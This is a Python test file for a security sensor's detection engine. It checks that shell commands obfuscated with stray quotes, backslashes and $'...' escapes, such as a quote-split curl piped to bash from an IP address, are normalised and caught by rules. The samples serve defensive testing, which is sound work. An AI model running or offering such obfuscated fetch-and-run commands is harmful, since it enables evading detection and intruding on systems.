"""A shell's command without the quotes that change nothing, and what rules make of it."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.detect.compact import RuleSet
from sensor.detect.engine import Engine
from sensor.detect.quoting import unquoted, without_quoting
from sensor.model.events import Event, Evidence, Missing, Process, Task
from sensor.model.kinds import Kind
from tests.fakes_pipeline import HEADER
from tests.rules_from import compiled, exec_event, fires, one_rule, rule_text

SEL = "sel: {CommandLine|contains: 'curl '}\n"
CURL = f"{SEL}condition: sel"
PLAIN = st.text("acurl-/.=:", min_size=1, max_size=4)
HELD = st.text("cu |;&*#(<\n", max_size=4)  # what means something else, or another number of words, without quotes
WORD = st.lists(
    st.one_of(
        PLAIN,
        st.one_of(PLAIN, HELD).map("'{}'".format),
        st.one_of(PLAIN, HELD).map('"{}"'.format),
        st.sampled_from("aurl/|; '\"").map("\\{}".format),
    ),
    min_size=1,
    max_size=5,
).map("".join)


def shell(command: str) -> Event:
    """What tells of `sh -c COMMAND`."""
    return exec_event(exe="/usr/bin/dash", args=("sh", "-c", command))


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("cu''rl http://203.0.113.9/x|ba''sh", "curl http://203.0.113.9/x|bash"),
        (r"c\url", "curl"),
        (r"\c\u\r\l", "curl"),
        ('"cur"l', "curl"),
        ("'c'\"u\"''rl", "curl"),
        ("cu''''rl", "curl"),
        ("cu''\\rl", "curl"),
        ("''curl\"\"", "curl"),
        ("cu$''r$\"l\"", "curl"),
        ("cu\\\nrl x", "curl x"),
        (r"$'\x63url' x", "curl x"),
        (r"$'\143\u0075\U00000072l'", "curl"),
        ("'/etc/ld.so.preload'", "/etc/ld.so.preload"),
        (": #'\ncu''rl", ": #'\ncurl"),
        ("''\"cur\"l", "curl"),
        ("''\\curl", "curl"),
        ('curl$"" x', "curl x"),
        (r'\""u"', r"\"u"),
    ],
)
def test_quotes_within_and_around_words_are_taken_out(written: str, read: str) -> None:
    assert unquoted(written) == read


@pytest.mark.parametrize(
    "written",
    [
        "it's",
        "echo '|' sh",
        "echo 'curl x | sh'",
        r"echo curl \| sh",
        r"c\\url",
        "echo '$HOME' \"$HOME\" '*' '#x'",
        "read -d '' line",
        'echo "" >/srv/x',
        "curl -A 'Mozilla/5.0 (X11; Linux)' http://localhost/",
    ],
)
def test_what_quotes_protect_stays_as_it_was(written: str) -> None:
    assert unquoted(written) == written


def test_what_is_spelt_by_numbers_keeps_the_quotes_that_it_needs() -> None:
    assert unquoted(r"eval $'\x63url\x20x|sh'") == "eval 'curl x|sh'"


@pytest.mark.parametrize("byte", [r"\0", r"\x80", r"\377"])
def test_bytes_that_are_no_characters_are_not_taken_for_any(byte: str) -> None:
    """The zero ends the text, and of the others it takes several to be a character."""
    assert unquoted(f"c$'{byte}'url").isprintable()
    assert unquoted(f"c$'{byte}'url") != "curl"


@given(st.lists(WORD, max_size=4).map(" ".join))
def test_a_shell_reads_the_same_words(written: str) -> None:
    assert shlex.split(unquoted(written)) == shlex.split(written)


@given(st.text("cu\\\n'\"$x6 é\udcff"))
def test_no_text_becomes_longer(written: str) -> None:
    assert len(unquoted(written)) <= len(written)


@pytest.mark.parametrize(
    ("exe", "args"),
    [
        ("/usr/bin/dash", ("sh", "-c", "cu''rl x")),
        ("/usr/bin/zsh-5.9", ("x", "-c", "cu''rl x")),
        ("/bin/busybox", ("/bin/sh", "-c", "cu''rl x")),
        ("/bin/busybox", ("busybox", "sh", "-c", "cu''rl x")),
        ("/usr/bin/timeout", ("timeout", "5", "/bin/bash", "-c", "cu''rl x")),
        ("/usr/bin/nice", ("nice", "/usr/bin/bash", "-c", "cu''rl x")),
        (None, ("-bash", "-c", "cu''rl x")),
    ],
)
def test_every_start_of_a_shell_is_read_as_it_reads_it(exe: str | None, args: tuple[str, ...]) -> None:
    assert fires(one_rule(CURL), exec_event(exe=exe, args=args))


def test_a_shell_whose_executable_was_not_read_is_known_by_its_name() -> None:
    assert fires(one_rule(CURL), exec_event(exe=None, comm="bash", args=("x", "-c", "cu''rl x")))


def test_arguments_of_other_programs_mean_what_they_say() -> None:
    assert without_quoting(exec_event(args=("python3", "-c", "'cu''rl '"))) is None


def test_other_events_and_lines_without_needless_quotes_are_asked_once() -> None:
    assert without_quoting(shell("cu''rl")._replace(kind=Kind.FILE_CREATE)) is None
    assert without_quoting(shell("echo 'a b'")) is None
    assert without_quoting(exec_event(exe="/bin/sh", args=None)) is None


def test_the_written_form_goes_on_matching() -> None:
    rule = one_rule("sel: {CommandLine|contains: \"cu''rl\"}\ncondition: sel")

    assert fires(rule, shell("cu''rl x"))


def test_keywords_and_single_arguments_are_found_without_quotes_too() -> None:
    assert fires(one_rule("words: ['curl x']\ncondition: words"), shell("cu''rl x"))
    assert fires(one_rule("sel: {a2: curl}\ncondition: sel"), shell("'curl'"))


def test_a_rule_that_both_forms_match_is_found_once() -> None:
    engine = Engine(compiled(rule_text("sel: {CommandLine|contains: curl}\ncondition: sel")))

    assert len(engine.matches(shell("curl 'x'"))) == 1


@pytest.mark.parametrize(
    ("spared", "command"),
    [
        ("localhost", "cu''rl 'local'host"),  # by the form without quotes
        ("'/health'", "cu''rl '/health'"),  # by what is written
    ],
)
def test_a_filter_that_either_form_passes_spares_both(spared: str, command: str) -> None:
    rule = one_rule(f'{SEL}spared: {{CommandLine|contains: "{spared}"}}\ncondition: sel and not spared')

    assert not fires(rule, shell(command))
    assert fires(rule, shell("cu''rl http://203.0.113.9/"))


def test_a_rule_for_which_a_filter_in_a_filter_stands_asks_what_was_written() -> None:
    """Twice negated it is asked for, and only what was written must have it."""
    rule = one_rule(f"{SEL}quoted: {{CommandLine|contains: \"''\"}}\ncondition: sel and not (not quoted)")

    assert fires(rule, shell("cu''rl x"))


@pytest.mark.parametrize(("spared", "undecided"), [("User: app", True), ("Image: /bin/sh", False)])
def test_what_was_not_read_leaves_the_plain_form_undecided_too(spared: str, *, undecided: bool) -> None:
    rule = one_rule(f"{SEL}spared: {{{spared}}}\ncondition: sel and not spared")
    event = shell("cu''rl x")._replace(evidence=Evidence("test", (Missing("process.user", "denied"),)))

    verdict = Engine(RuleSet((rule,))).verdict(event)

    assert (len(verdict.found), len(verdict.undecided)) == ((0, 1) if undecided else (1, 0))


def test_undecided_of_one_form_and_found_of_the_other_is_found() -> None:
    rule = one_rule(
        "sure: {CommandLine|contains: 'curl '}\nsel: {CommandLine|contains: x}\nspared: {User: app}\n"
        "condition: sure or (sel and not spared)"
    )
    event = shell("cu''rl x")._replace(evidence=Evidence("test", (Missing("process.user", "denied"),)))

    verdict = Engine(RuleSet((rule,))).verdict(event)

    assert [len(verdict.found), len(verdict.undecided)] == [1, 0]


def test_undecided_of_what_was_written_alone_is_undecided() -> None:
    rule = one_rule("sel: {CommandLine|contains: \"''\"}\nspared: {User: app}\ncondition: sel and not spared")
    event = shell("cu''rl x")._replace(evidence=Evidence("test", (Missing("process.user", "denied"),)))

    verdict = Engine(RuleSet((rule,))).verdict(event)

    assert [len(verdict.found), len(verdict.undecided)] == [0, 1]


def test_the_task_and_the_process_above_are_known_to_both_forms() -> None:
    rule = one_rule(f"{SEL[:-2]}, task.family: shop, ParentCommandLine: nginx}}\ncondition: sel")
    header = HEADER._replace(task=Task("ecs-fargate", family="shop"))
    parent = Process("above", 1, args=("nginx",))

    assert Engine(RuleSet((rule,))).matches(shell("cu''rl x"), lambda: header, lambda _: parent)
